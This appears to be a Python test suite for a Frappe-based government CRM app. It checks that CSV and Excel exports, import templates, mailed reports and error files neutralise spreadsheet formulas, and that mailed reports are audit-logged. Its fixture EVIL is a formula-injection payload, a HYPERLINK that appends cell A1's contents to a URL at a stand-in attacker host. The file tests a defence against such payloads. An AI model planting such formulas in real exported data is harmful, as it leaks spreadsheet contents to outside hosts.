"""Files for spreadsheets: no way out writes a formula, and each is recorded."""

import csv
import gzip
import io
import json
import shutil
import tempfile
from pathlib import Path
from unittest.mock import patch

import frappe
from frappe.commands import utils
from frappe.core.doctype.data_import.importer import Importer, ImportFile
from frappe.core.doctype.prepared_report import prepared_report
from frappe.desk import query_report
from frappe.email.doctype.auto_email_report import auto_email_report
from frappe.handler import execute_cmd
from frappe.utils import csvutils, xlsxutils
from openpyxl import load_workbook
from werkzeug.test import EnvironBuilder
from werkzeug.wrappers import Request

from govcrm import commands, exports, wrapping
from govcrm.accountability.trail import payload
from govcrm.casework.importing import faults
from govcrm.domain.importing import Fault
from govcrm.exports import writers
from govcrm.tests import GovCRMTestCase

EVIL = '=HYPERLINK("https://evil.example?"&A1,"more")'
HIDDEN = "<p>=1+1</p>"  # Frappe takes the tags away when it writes
MADE_NEUTRAL = "'" + EVIL


class ExportTestCase(GovCRMTestCase):
	def setUp(self) -> None:
		super().setUp()
		exports.install()

	def ask(self, cmd: str, **form: object):
		"""The answer of one of Frappe's endpoints, as a request of the user meets it."""
		words = {
			name: value if isinstance(value, str) else frappe.as_json(value) for name, value in form.items()
		}
		with patch.multiple(
			frappe.local,
			create=True,
			form_dict=frappe._dict(cmd=cmd, **words),
			request=Request(EnvironBuilder(method="POST").get_environ()),
			response=frappe._dict(),
		):
			found = execute_cmd(cmd)
			return frappe.local.response if found is None else found

	def csv_of(self, answer) -> list[list[str]]:
		text = answer.get("result") or answer["filecontent"].decode()
		return list(csv.reader(io.StringIO(text)))

	def cells_of(self, answer) -> list:
		sheet = load_workbook(io.BytesIO(answer["filecontent"])).worksheets[0]
		return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]

	def assert_neutral(self, answer, wanted: str = MADE_NEUTRAL) -> None:
		"""In the file stands the text with its apostrophe, as a text, and no formula."""
		if answer.get("type") == "csv" or not answer["filecontent"].startswith(b"PK"):
			cells = [cell for row in self.csv_of(answer) for cell in row]
		else:
			cells = [cell.value for cell in self.cells_of(answer)]
			self.assertNotIn("f", {cell.data_type for cell in self.cells_of(answer)})
		self.assertIn(wanted, [str(cell).replace(" ", "") for cell in cells])
		self.assertFalse([cell for cell in cells if str(cell).lstrip().startswith("=")])


class TestFormulas(ExportTestCase):
	def setUp(self) -> None:
		super().setUp()
		self.note = frappe.get_doc(
			{"doctype": "ToDo", "description": EVIL, "priority": "Low", "color": None}
		).insert()
		self.only = {"name": self.note.name}

	def test_a_list_is_exported_without_formulas(self):
		form = {"doctype": "ToDo", "fields": ["name", "description"], "filters": self.only, "title": "ToDo"}
		for kind in ("CSV", "Excel"):
			for text in (EVIL, HIDDEN):
				self.note.db_set("description", text)
				answer = self.ask("frappe.desk.reportview.export_query", file_format_type=kind, **form)
				self.assert_neutral(answer, MADE_NEUTRAL if text == EVIL else "'=1+1")

	def test_a_report_is_exported_without_formulas_and_its_numbers_stay_numbers(self):
		columns = [{"fieldname": name, "label": name, "fieldtype": "Data"} for name in ("what", "much")]
		found = {"columns": columns, "result": [{"what": EVIL, "much": -5}, {"what": "-5", "much": -1.5}]}
		with patch.object(query_report, "run", lambda *args, **kwargs: found):
			for kind in ("CSV", "Excel"):
				answer = self.ask(
					"frappe.desk.query_report.export_query",
					report_name="Permitted Documents For User",
					file_format_type=kind,
					visible_idx=[0, 1],
				)
				self.assert_neutral(answer)
		self.assertEqual([cell.value for cell in self.cells_of(answer)][-3:], [-5, "-5", -1.5])

	def test_a_file_to_import_is_without_formulas_and_gives_back_what_was_exported(self):
		form = {
			"doctype": "ToDo",
			"export_fields": {"ToDo": ["name", "description"]},
			"export_records": "by_filter",
			"export_filters": self.only,
		}
		template = "frappe.core.doctype.data_import.data_import.download_template"
		for kind, extension in (("CSV", "csv"), ("Excel", "xlsx")):
			answer = self.ask(template, file_type=kind, **form)
			self.assert_neutral(answer)
			content = answer.get("result", "").encode() or answer["filecontent"]
			reader = ImportFile.__new__(ImportFile)
			reader.use_sniffer = False
			self.assertIn(EVIL, [cell for row in reader.read_content(content, extension) for cell in row])

	def test_data_export_is_without_formulas(self):
		for kind in ("CSV", "Excel"):
			answer = self.ask(
				"frappe.core.doctype.data_export.exporter.export_data",
				doctype="ToDo",
				with_data="1",
				filters=self.only,
				file_type=kind,
				select_columns={"ToDo": ["description"]},
				export_without_column_meta="true",
			)
			self.assert_neutral(answer)

	def test_rows_that_an_import_refused_are_given_back_without_formulas(self):
		refused = Importer.__new__(Importer)
		refused.doctype, refused.data_import = "ToDo", frappe._dict(name="x")
		row = frappe._dict(data=[EVIL], row_number=2)
		refused.import_file = frappe._dict(columns=[frappe._dict(header_title="Description")], data=[row])
		log = [frappe._dict(row_indexes="[2]", success=0)]
		answer = patch.object(frappe.local, "response", frappe._dict(), create=True)
		with patch.object(frappe, "get_all", lambda *_, **__: log), answer:
			refused.export_errored_rows()
			self.assert_neutral(frappe.response)

	def test_a_report_by_mail_is_without_formulas(self):
		mailed = frappe.new_doc("Auto Email Report", report="x", report_type="Script Report", filters="{}")
		for kind in ("CSV", "XLSX"):
			mailed.format = kind
			columns = [frappe._dict(fieldname="what", label="What", fieldtype="Data")]
			report = frappe._dict(get_data=lambda columns=columns, **_: (columns, [{"what": EVIL}]))
			with patch.object(frappe, "get_doc", return_value=report):
				content = mailed.get_report_content()
			self.assert_neutral({"filecontent": content.encode() if isinstance(content, str) else content})

	def test_a_prepared_report_becomes_a_csv_file_without_formulas(self):
		if not hasattr(prepared_report, "convert_json_to_csv"):
			return  # Frappe 16 has no such job
		content = json.dumps({"columns": [{"fieldname": "what"}], "result": [{"what": EVIL}]}).encode()
		documents = Documents(gzip.compress(content))
		attached = [frappe._dict(name="x", file_url="x.gz", file_name="x.json.gz")]
		job = frappe._dict(method=writers.CSV_OF_REPORT)
		with (
			patch.object(prepared_report, "get_attachments", lambda *_: attached),
			patch.object(frappe.local, "job", job, create=True),
			patch.object(frappe, "get_doc", documents.get),
		):
			prepared_report.convert_json_to_csv("x")
		[file] = [values for values in documents.made if values["doctype"] == "File"]
		self.assert_neutral({"filecontent": file["content"]})

	def test_the_commands_that_export_and_import_do_it_by_our_writers(self):
		"""`bench export-csv` and `bench data-import`, which Frappe has beside ours."""
		self.assertTrue(commands.commands)
		for command in (utils.export_csv, utils.data_import):
			with patch.object(exports, "install", side_effect=LookupError), self.assertRaises(LookupError):
				command.callback()

	def test_the_rows_that_our_import_refused_are_given_back_without_formulas(self):
		path = Path(tempfile.mkdtemp()) / "refused.csv"
		self.addCleanup(shutil.rmtree, path.parent)
		fault = Fault("description", "too_long", EVIL, "3")
		faults.ErrorFile(path).add([faults.Refusal(1, "x", (fault,))])
		self.assert_neutral({"filecontent": path.read_bytes()})


class Documents:
	"""Frappe's `get_doc` for a job that reads a file and writes another."""

	def __init__(self, content: bytes) -> None:
		self.content, self.made = content, []
		self.report = frappe.new_doc("Prepared Report", report_name="x")

	def get(self, doctype, *_args):
		if doctype == "Prepared Report":
			return self.report
		if isinstance(doctype, dict):
			self.made.append(doctype)
		return frappe._dict(get_content=lambda: self.content, save=lambda **_: None, insert=lambda **_: None)


class TestWriters(ExportTestCase):
	def test_who_took_a_writer_by_its_name_before_has_ours(self):
		self.assertIs(auto_email_report.make_xlsx, xlsxutils.make_xlsx)
		self.assertTrue(hasattr(xlsxutils.make_xlsx, wrapping.OURS))
		before = xlsxutils.make_xlsx
		exports.install()
		self.assertIs(xlsxutils.make_xlsx, before)

	def test_a_site_without_the_app_writes_as_it_did(self):
		apps = patch.object(frappe, "get_installed_apps", lambda *_: ["frappe"])
		with apps, patch.object(frappe.local, wrapping.KEPT, None, create=True):
			self.assertIn("=1+1", csvutils.to_csv([["=1+1"]]))
			self.assertNotIn("'=1+1", csvutils.to_csv([["=1+1"]]))
		self.assertIn("'=1+1", csvutils.to_csv([["=1+1"]]))


class TestMailed(ExportTestCase):
	def send(self, rows: list[dict]) -> list[frappe._dict]:
		mailed = frappe.new_doc(
			"Auto Email Report", report="Cases", name="Cases by mail", format="CSV", filters="{}"
		)
		mailed.update({"report_type": "Script Report", "email_to": "ada@example.org\nbob@example.org"})
		before = frappe.get_all("Audit Event", pluck="name", order_by="name desc", limit=1)
		columns = [frappe._dict(fieldname="what", label="What", fieldtype="Data")]
		report = frappe._dict(get_data=lambda **_: (columns, rows))
		mailed.send_if_data = 1
		with (
			patch.object(auto_email_report.frappe, "get_doc", return_value=report),
			patch.object(frappe, "sendmail"),
			patch.object(mailed, "get_html_table", return_value=""),
		):
			mailed.send()
		return frappe.get_all("Audit Event", {"name": (">", before[0])}, ["*"])

	def test_a_report_that_is_sent_is_recorded_with_whom_it_went_to(self):
		[event] = self.send([{"what": "x"}])
		self.assertEqual((event.verb, event.reference_name), ("export", "Cases by mail"))
		said = payload.read(event)
		self.assertEqual(said["detail/to"], "ada@example.org, bob@example.org")
		self.assertEqual((said["detail/report"], said["detail/format"]), ("Cases", "CSV"))

	def test_where_there_was_nothing_to_send_nothing_is_told(self):
		self.assertEqual(self.send([]), [])
